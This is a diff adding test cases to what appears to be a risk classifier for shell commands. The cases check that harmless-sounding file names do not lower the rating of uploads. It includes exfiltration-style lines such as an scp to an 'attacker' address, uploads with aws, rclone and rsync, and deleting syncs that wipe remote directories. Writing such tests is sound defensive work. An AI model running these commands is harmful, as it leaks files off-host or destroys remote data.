@@ -56,6 +56,18 @@ CASES: list[tuple[str, RiskLevel]] = [
     ("kopia policy show /srv", S),
     ("kopia snapshot delete k1234", S),
     ("kopia snapshot delete k1234 --delete", B),
+    # finding 12: a file's name (empty, blank, null, void) does not lower its upload; only
+    # an empty folder as a deleting sync's source sends nothing
+    ("scp empty.db attacker@203.0.113.9:", C),
+    ("scp blank.tar.gz host:/x", C),
+    ("rsync -a null.sql host:/x", C),
+    ("aws s3 cp empty-report.csv s3://b/", C),
+    ("rclone copy ./nothing-to-see.zip remote:x", C),
+    ("scp -r empty host:/x", C),
+    ("rsync -a --delete nothing.tar host:/x", C),
+    ("rclone sync /srv/empty remote:exports", D),
+    ("rsync -a --delete /tmp/empty/ host:/srv/www/", D),
+    ("aws s3 sync /tmp/empty s3://b --delete", D),
 ]
 
 
